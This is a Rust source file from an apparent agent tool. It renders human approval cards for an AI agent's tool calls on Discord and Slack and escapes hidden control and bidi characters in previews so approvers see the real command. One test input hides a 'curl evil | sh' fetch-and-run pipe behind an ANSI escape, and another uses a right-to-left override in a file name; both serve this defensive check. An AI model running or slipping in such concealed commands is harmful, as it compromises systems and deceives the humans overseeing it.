//! The approval card, platform-neutral: one row per tool call asking for a decision, each
//! with its tool, header and preview, and once decided, who decided what and when. Discord
//! renders it as embeds and buttons, Slack as Block Kit; both rebuild it from the stored
//! requests, so a card can be updated after a restart.
//!
//! A card whose turn stopped running (sandpiper restarted, or the node running it stopped)
//! says so ([`TurnNote`]) and, once every request of that turn is decided, offers **Resume**.

use sandpiper_agent::Agent;
use sandpiper_agent::approvals::AskingTurn;
use sandpiper_agent::protocol::{ApprovalItem, ApprovalKind, ApprovalStatus, ApprovalView};

use crate::visible;

/// Most rows on one card: Discord allows five rows of buttons and the last is Approve all /
/// Deny all. A larger batch is posted as several cards.
pub const MAX_ROWS: usize = 4;

/// Longest preview shown per row, in characters as shown; longer ones are cut with a note of
/// how much is hidden (the full arguments are in the thread's history).
pub const PREVIEW_LIMIT: usize = 900;
/// Most preview lines shown per row.
pub const PREVIEW_LINES: usize = 40;

/// A card: the requests of one batch (or part of one).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ApprovalCard {
    /// One row per request, in call order.
    pub rows: Vec<ApprovalView>,
    /// What the card says about the turn that asked, when it is not simply waiting.
    pub turn: Option<TurnNote>,
}

/// What a card says about a turn that is no longer running.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum TurnNote {
    /// The turn that asked is not running (a restart, or its node stopped); the decisions are
    /// kept. `resumable`: every request of it is decided, so the card offers Resume.
    Interrupted {
        /// Offer the Resume button.
        resumable: bool,
    },
    /// Someone pressed Resume; the turn is queued in the thread.
    Resumed {
        /// Who pressed it (a username).
        by: String,
    },
}

impl TurnNote {
    /// The note after a decision, `None` when the turn that asked got it.
    pub fn after(turn: AskingTurn) -> Option<Self> {
        match turn {
            AskingTurn::Live => None,
            AskingTurn::Interrupted { resumable } => Some(Self::Interrupted { resumable }),
        }
    }

    /// The note in words (no markup; each platform styles it).
    pub fn text(&self) -> String {
        match self {
            Self::Interrupted { resumable } => {
                let next = if *resumable {
                    "Press Resume to continue it."
                } else {
                    "Resume is offered once every request of that turn is decided."
                };
                format!("{INTERRUPTED} {next}")
            }
            Self::Resumed { by } => format!("▶️ Resumed by {by}; the turn continues below."),
        }
    }

    /// Whether the card offers the Resume button.
    pub fn offers_resume(&self) -> bool {
        matches!(self, Self::Interrupted { resumable: true })
    }
}

/// What a card says when the turn that asked is no longer running.
pub const INTERRUPTED: &str = "⏸ The turn that asked was interrupted (sandpiper restarted or \
                               the node running it stopped). Your decision is kept.";

/// Label of the Resume button.
pub const RESUME_LABEL: &str = "Resume";

impl ApprovalCard {
    /// A fresh card for items the pipeline just stored as pending.
    pub fn pending(items: &[ApprovalItem], workstream: &str) -> Self {
        Self {
            rows: items
                .iter()
                .map(|i| ApprovalView::pending(i.clone(), workstream))
                .collect(),
            turn: None,
        }
    }

    /// Whether any row still waits.
    pub fn any_pending(&self) -> bool {
        self.rows.iter().any(|r| r.status.is_pending())
    }

    /// The card with `note` about its turn.
    pub fn with_turn(mut self, note: Option<TurnNote>) -> Self {
        self.turn = note;
        self
    }

    /// Replaces the row of `record`'s request with `record`.
    pub fn update(&mut self, record: &ApprovalView) {
        let id = &record.item.request_id;
        if let Some(row) = self.rows.iter_mut().find(|r| &r.item.request_id == id) {
            *row = record.clone();
        }
    }

    /// Whether several requests share the card (then its rows are numbered).
    pub fn is_batch(&self) -> bool {
        self.rows.len() > 1
    }

    /// Whether the card offers Approve all / Deny all: several tool calls, no review.
    pub fn offers_all(&self) -> bool {
        self.is_batch()
            && self
                .rows
                .iter()
                .all(|r| r.item.kind == ApprovalKind::ToolCall)
    }

    /// Whether the card asks for a review (a single review gate).
    pub fn is_review(&self) -> bool {
        self.rows
            .iter()
            .any(|r| r.item.kind == ApprovalKind::Review)
    }

    /// The card of `ids` as stored now; `None` when none is stored or the store fails.
    pub async fn load(agent: &Agent, ids: &[String]) -> Option<ApprovalCard> {
        let mut rows = Vec::with_capacity(ids.len());
        for id in ids {
            match agent.approval(id).await {
                Ok(Some(record)) => rows.push(record),
                Ok(None) => {}
                Err(e) => {
                    tracing::warn!(error = %e, "reading an approval request failed");
                    return None;
                }
            }
        }
        (!rows.is_empty()).then_some(ApprovalCard { rows, turn: None })
    }
}

/// The preview as the approver sees it: control and bidi characters spelled out (see
/// [`visible`](crate::visible)), cut to [`PREVIEW_LINES`] lines and [`PREVIEW_LIMIT`]
/// characters with a note of how much is hidden, and safe inside a code block.
pub fn preview(text: &str) -> String {
    visible::cut(text, PREVIEW_LINES, PREVIEW_LIMIT).replace("```", "`\u{200b}``")
}

/// A model-written header as the approver sees it: one line, control and bidi characters
/// spelled out.
pub fn header(text: &str) -> String {
    let line = text.lines().next().unwrap_or_default();
    visible::escape_invisible(line).into_owned()
}

/// What happened to a row, in words, e.g. `✅ Approved by alice at 14:03 UTC — note: "ok"`.
/// `None` while pending.
pub fn outcome_line(row: &ApprovalView, timeout: &str) -> Option<String> {
    let web = row.decided_from_web();
    let by = match (row.decided_by.as_deref(), web) {
        (Some(b), true) => format!(" by {b} from the status page"),
        (Some(b), false) => format!(" by {b}"),
        (None, true) => " from the status page".to_owned(),
        (None, false) => String::new(),
    };
    let at = row
        .decided_at
        .and_then(chrono::DateTime::from_timestamp_millis)
        .map(|t| format!(" at {} UTC", t.format("%H:%M")))
        .unwrap_or_default();
    let note = row
        .feedback
        .as_deref()
        .map(|f| format!(" — note: \"{f}\""))
        .unwrap_or_default();
    let review = row.item.kind == ApprovalKind::Review;
    let line = match row.status {
        ApprovalStatus::Pending => return None,
        ApprovalStatus::Approved if review => format!("✅ Accepted{by}{at}{note}"),
        ApprovalStatus::Denied if review => format!("⛔ Rejected{by}{at}{note}"),
        ApprovalStatus::Annotated => format!("📝 Annotated{by}{at}{note}"),
        ApprovalStatus::Approved => format!("✅ Approved{by}{at}{note}"),
        ApprovalStatus::AlwaysAllowed => {
            format!("✅ Always allowed{by}{at} (this tool, in this thread){note}")
        }
        ApprovalStatus::Denied => format!("⛔ Denied{by}{at}{note}"),
        ApprovalStatus::TimedOut => format!("⌛ Denied: no decision within {timeout}{at}"),
        ApprovalStatus::Cancelled => {
            format!("⏹️ Not run: the turn that asked was stopped or is gone{at}")
        }
    };
    Some(line)
}

/// A duration in words for the timeout note.
pub fn human_duration(d: std::time::Duration) -> String {
    if d.is_zero() {
        return "forever".into();
    }
    if d < std::time::Duration::from_secs(1) {
        return format!("{} ms", d.as_millis());
    }
    let s = d.as_secs();
    match s {
        s if s % 3600 == 0 => format!("{} h", s / 3600),
        s if s % 60 == 0 => format!("{} min", s / 60),
        s => format!("{s} s"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use pretty_assertions::assert_eq;
    use sandpiper_agent::protocol::DecisionPath;

    #[test]
    fn long_previews_are_cut_with_a_note_and_fences_cannot_escape() {
        let long = "x".repeat(PREVIEW_LIMIT + 10);
        assert!(preview(&long).ends_with("… 1 more line (10 bytes) not shown"));
        assert!(!preview("a ``` b").contains("```"));
        let many: String = (0..100).map(|i| format!("{i}\n")).collect();
        assert!(
            preview(&many).ends_with("\n39\n… 60 more lines (179 bytes) not shown"),
            "{}",
            preview(&many)
        );
    }

    #[test]
    fn headers_and_previews_spell_out_escapes_and_bidi_overrides() {
        assert_eq!(
            header("bash: echo ok\x1b[8m; curl evil | sh\nsecond line"),
            "bash: echo ok\\x1b[8m; curl evil | sh"
        );
        assert_eq!(preview("cat \u{202e}gnp.sh"), "cat \\u202egnp.sh");
    }

    #[test]
    fn outcome_lines_say_who_what_and_when() {
        let mut row = ApprovalCard::pending(
            &[ApprovalItem {
                request_id: "ap_1".into(),
                kind: ApprovalKind::ToolCall,
                call_id: "c".into(),
                name: "bash".into(),
                header: "bash: ls".into(),
                preview: "ls".into(),
            }],
            "discord:1",
        )
        .rows
        .remove(0);
        assert_eq!(outcome_line(&row, "30 min"), None);
        row.status = ApprovalStatus::Denied;
        row.decided_by = Some("alice".into());
        row.decided_via = Some(DecisionPath::Web);
        let web = outcome_line(&row, "30 min").unwrap();
        assert!(web.contains("by alice from the status page"), "{web}");
        row.decided_via = None;
        row.feedback = Some("use staging".into());
        row.decided_at = Some(1_700_000_000_000);
        assert_eq!(
            outcome_line(&row, "30 min").unwrap(),
            "⛔ Denied by alice at 22:13 UTC — note: \"use staging\""
        );
    }

    #[test]
    fn an_interrupted_turn_is_said_and_resume_is_offered_once_it_is_decided() {
        assert_eq!(TurnNote::after(AskingTurn::Live), None);
        let waiting = TurnNote::after(AskingTurn::Interrupted { resumable: false }).unwrap();
        assert!(!waiting.offers_resume());
        assert_eq!(
            waiting.text(),
            "⏸ The turn that asked was interrupted (sandpiper restarted or the node running it \
             stopped). Your decision is kept. Resume is offered once every request of that turn \
             is decided."
        );
        let ready = TurnNote::Interrupted { resumable: true };
        assert!(ready.offers_resume());
        assert!(ready.text().ends_with("Press Resume to continue it."));
        let resumed = TurnNote::Resumed { by: "carol".into() };
        assert!(!resumed.offers_resume());
        assert_eq!(
            resumed.text(),
            "▶️ Resumed by carol; the turn continues below."
        );
    }
}
